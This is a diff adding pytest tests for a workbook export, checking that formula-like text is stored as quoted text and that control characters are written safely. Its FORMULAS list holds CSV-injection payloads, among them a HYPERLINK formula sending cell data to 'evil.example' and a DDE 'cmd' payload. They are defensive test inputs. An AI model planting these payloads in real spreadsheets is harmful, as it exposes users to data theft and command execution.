@@ -154,3 +154,47 @@ def test_itinerary_sheets_follow_the_dashboards_itinerary(mini, plan):
                 assert row["Place"] == place_of(mini, mini.engagements_by_id[s.engagement_id], s.host)
             else:
                 assert row["Role"] == "attendee" and row["Kind"].endswith("(fixed event)")
+
+
+# --- text that looks like a formula (issue 12; OWASP CSV-injection list) ---------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
+            "@SUM(1+1)", "=1+1\x07"]
+
+
+def test_no_formula_cell_from_scenario_text(left_out, tmp_path):
+    """Titles, places, the scenario name, an event and the reason of a left-out engagement that start like a
+    formula: openpyxl finds no formula cell anywhere, and each text reads back as it was (the quote prefix
+    marks it as text without being part of the value)."""
+    scenario, plan = left_out
+    titles = dict(zip([e.id for e in scenario.engagements], FORMULAS, strict=False))
+    scenario = dataclasses.replace(
+        scenario, name=FORMULAS[0],
+        engagements=tuple(dataclasses.replace(e, title=titles[e.id], place=FORMULAS[3]) for e in scenario.engagements),
+        events=tuple(dataclasses.replace(v, title=FORMULAS[4], place=FORMULAS[5]) for v in scenario.events))
+    plan = dataclasses.replace(plan, engagements=tuple(
+        dataclasses.replace(o, reason="\t=2*3 tab first") if not o.scheduled else o for o in plan.engagements))
+    write_workbook(scenario, plan, tmp_path / "plan.xlsx")
+    book = openpyxl.load_workbook(tmp_path / "plan.xlsx")
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    assert set(titles.values()) | {FORMULAS[0], FORMULAS[4], "\t=2*3 tab first"} <= texts
+    assert "=1+1\u2407" in texts  # the event's place; the bell shown as its control picture
+    assert any(text.startswith(f"{FORMULAS[3]}, ") for text in texts)  # an engagement's place, with its country
+    formula_like = [c for c in cells if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@", "\t")]
+    assert len(formula_like) >= 10 and all(c.quotePrefix for c in formula_like)
+    assert book.properties.title == f"KP plan – {FORMULAS[0]}"
+    assert pd.read_excel(tmp_path / "plan.xlsx", sheet_name="Summary").set_index("Item").loc[
+        "Scenario", "Value"] == FORMULAS[0]
+
+
+def test_text_with_control_characters_is_written(mini, plan, tmp_path):
+    """openpyxl refuses control characters (XML cannot hold them): they are shown as control pictures."""
+    scenario = dataclasses.replace(mini, name="bell\x07 escape\x1b nul\x00 line\nbreak", engagements=tuple(
+        dataclasses.replace(e, title=f"{e.title}\x0b\x0c") for e in mini.engagements))
+    write_workbook(scenario, plan, tmp_path / "plan.xlsx")
+    summary = pd.read_excel(tmp_path / "plan.xlsx", sheet_name="Summary").set_index("Item")
+    assert summary.loc["Scenario", "Value"] == "bell\u2407 escape\u241b nul\u2400 line\nbreak"
+    titles = set(pd.read_excel(tmp_path / "plan.xlsx", sheet_name="Engagements")["Title"])
+    assert {f"{e.title}\u240b\u240c" for e in mini.engagements} == titles
